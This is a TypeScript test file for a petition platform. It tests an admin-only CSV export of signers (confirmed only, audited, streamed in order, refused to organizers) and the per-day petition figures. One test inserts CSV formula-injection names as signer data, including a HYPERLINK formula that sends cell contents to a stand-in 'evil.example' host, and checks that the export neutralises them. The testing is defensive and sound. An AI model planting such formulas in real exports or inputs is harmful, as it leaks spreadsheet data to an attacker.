import { sql } from "drizzle-orm";
import { sealedSigner } from "@/db/personal-data";
import { describe, expect, it } from "vitest";
import { rowsOf } from "@/db";
import { signatures } from "@/db/schema";
import { setUpTestDatabase } from "@/db/test-database";
import { isAppError } from "@/lib/errors";
import { makeWorld } from "@/lib/organizers/test-world";
import { exportSignatures } from "./export-signatures";
import { getPetitionFigures } from "./get-petition-figures";

const database = setUpTestDatabase();
const db = () => database().db;

const labels = { name: "Имя", confirmedAt: "Подтверждено", email: "Email" };

async function sign(petitionId: string, name: string, email: string, state: "pending" | "confirmed", confirmedAt?: string, extra: Partial<typeof signatures.$inferInsert> = {}) {
  await db()
    .insert(signatures)
    .values({
      petitionId,
      ...sealedSigner(email, name),
      locale: "ru",
      state,
      tokenNonce: `nonce-${email}-${Math.random()}`,
      tokenHash: `hash-${email}-${Math.random()}`,
      tokenExpiresAt: new Date(Date.now() + 86_400_000),
      confirmedAt: confirmedAt ? new Date(confirmedAt) : null,
      ...extra,
    });
}

async function csv(out: Awaited<ReturnType<typeof exportSignatures>>): Promise<string> {
  let s = "";
  for await (const line of out.lines) s += line;
  return s;
}

describe("signers' export (admins only)", () => {
  it("lists confirmed signatures only, with addresses, and neutralises formulas", async () => {
    const w = await makeWorld(db());
    const p = w.published.id;
    await sign(p, "Әлия Нұрланқызы", "aliya@example.org", "confirmed", "2026-11-20T10:00:00Z");
    await sign(p, '=HYPERLINK("http://evil.example/?"&A1,"click")', "evil@example.org", "confirmed", "2026-11-20T11:00:00Z");
    await sign(p, "+7 700 000", "plus@example.org", "confirmed", "2026-11-21T11:00:00Z");
    await sign(p, "@SUM(1+1)", "at@example.org", "confirmed", "2026-11-21T12:00:00Z");
    await sign(p, "-1", "minus@example.org", "confirmed", "2026-11-21T13:00:00Z");
    await sign(p, "\t=cmd", "tab@example.org", "confirmed", "2026-11-21T14:00:00Z");
    await sign(p, "Pending Person", "pending@example.org", "pending");

    const adminCsv = await csv(await exportSignatures(db(), w.admin, { petitionId: p, labels }));
    const lines = adminCsv.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
    expect(adminCsv.split("\r\n")[0]).toBe('\uFEFF"Имя","Подтверждено","Email"');
    expect(lines.slice(1)).toEqual([
      '"Әлия Нұрланқызы","2026-11-20 15:00","aliya@example.org"',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","2026-11-20 16:00","evil@example.org"`,
      `"'+7 700 000","2026-11-21 16:00","plus@example.org"`,
      `"'@SUM(1+1)","2026-11-21 17:00","at@example.org"`,
      `"'-1","2026-11-21 18:00","minus@example.org"`,
      `"'\t=cmd","2026-11-21 19:00","tab@example.org"`,
    ]);
    expect(adminCsv).not.toContain("Pending Person");
  });

  it("is refused to organizers, even of the petition's own campaign, and records nothing then", async () => {
    const w = await makeWorld(db());
    await sign(w.published.id, "Әлия Нұрланқызы", "aliya@example.org", "confirmed", "2026-11-20T10:00:00Z");
    await expect(exportSignatures(db(), w.organizer, { petitionId: w.published.id, labels })).rejects.toSatisfy((e) => isAppError(e, "forbidden"));
    const rows = rowsOf(await db().execute(sql`select 1 from audit_log where action = 'signatures.export' and entity_id = ${w.published.id}`));
    expect(rows).toHaveLength(0);
  });

  it("records every export in the audit log", async () => {
    const w = await makeWorld(db());
    await exportSignatures(db(), w.admin, { petitionId: w.published.id, labels });
    const rows = rowsOf<{ actor_id: string; details: { withEmail: boolean } }>(
      await db().execute(sql`select actor_id, details from audit_log where action = 'signatures.export' and entity_id = ${w.published.id} order by at`),
    );
    expect(rows.map((r) => [r.actor_id, r.details.withEmail])).toEqual([[w.admin.userId, true]]);
  });

  it("streams exports larger than one page in order", async () => {
    const w = await makeWorld(db());
    const base = Date.parse("2026-01-01T00:00:00Z");
    await db().insert(signatures).values(
      Array.from({ length: 4500 }, (_, i) => ({
        petitionId: w.published.id,
        ...sealedSigner(`s${i}@example.org`, `Signer ${i}`),
        locale: "kk" as const,
        state: "confirmed" as const,
        tokenNonce: `bulk-${w.tag}-${i}`,
        tokenHash: `bulk-${w.tag}-${i}`,
        tokenExpiresAt: new Date(base),
        confirmedAt: new Date(base + Math.floor(i / 3) * 1000), // ties on the timestamp, to exercise the keyset
      })),
    );
    const text = await csv(await exportSignatures(db(), w.admin, { petitionId: w.published.id, labels }));
    const names = text.split("\r\n").slice(1).filter(Boolean).map((l) => l.split('","')[0]!.slice(1));
    expect(names).toHaveLength(4500);
    expect(new Set(names).size).toBe(4500);
  });
});

describe("petition figures", () => {
  it("counts by state, per Almaty day (zero days filled), and each consent of confirmed signers on its own", async () => {
    const w = await makeWorld(db());
    const p = w.published.id;
    await sign(p, "A", "a@example.org", "confirmed", "2026-11-20T18:30:00Z", { consentUpdates: true }); // 23:30 in Almaty
    await sign(p, "B", "b@example.org", "confirmed", "2026-11-20T19:30:00Z", { showNamePublicly: true }); // 00:30 next day
    await sign(p, "C", "c@example.org", "confirmed", "2026-11-22T08:00:00Z", { consentUpdates: true, showNamePublicly: true });
    await sign(p, "D", "d@example.org", "pending", undefined, { consentUpdates: true, consentDelivery: true });
    await sign(p, "E", "e@example.org", "confirmed", "2026-11-22T09:00:00Z", { consentDelivery: true });
    const f = await getPetitionFigures(db(), w.organizer, p, new Date("2026-11-23T06:00:00Z"));
    expect(f.byState).toMatchObject({ confirmed: 4, pending: 1 });
    expect(f.perDay).toEqual([
      { day: "2026-11-20", n: 1 },
      { day: "2026-11-21", n: 1 },
      { day: "2026-11-22", n: 2 },
      { day: "2026-11-23", n: 0 },
    ]);
    expect(f.consents).toEqual({ updates: 2, publicName: 2, deliveryName: 1 });
  });
});
